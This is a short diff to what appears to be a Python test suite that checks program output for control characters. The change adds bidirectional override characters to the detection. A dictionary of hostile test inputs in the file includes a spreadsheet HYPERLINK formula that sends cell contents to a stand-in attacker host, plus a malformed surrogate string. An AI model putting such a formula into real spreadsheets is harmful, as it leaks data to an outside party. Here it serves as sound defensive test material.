@@ -32,7 +32,8 @@ HOSTILE = {
     "a formula": '=HYPERLINK("https://evil.example?"&A1)',
     "half a character": "nothing \ud83d here",
 }
-CONTROL = ("Cc", "Cf", "Cs")
+CONTROL = ("Cc", "Cs")
+TURNING = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 CHROMIUM = ("chromium", "chromium-browser", "google-chrome")
 
 
@@ -105,7 +106,7 @@ def commands(place: Path, text: str) -> Iterator[tuple[str, ...]]:
 def obeyed(ended: Ended) -> Iterator[str]:
     """The control characters that a terminal was sent; its output is no terminal, so that none is our own."""
     for letter in sorted(set(ended.output) - set("\n\r\t")):
-        if unicodedata.category(letter) in CONTROL:
+        if unicodedata.category(letter) in CONTROL or letter in TURNING:
             yield f"prints {letter!r}"
 
 
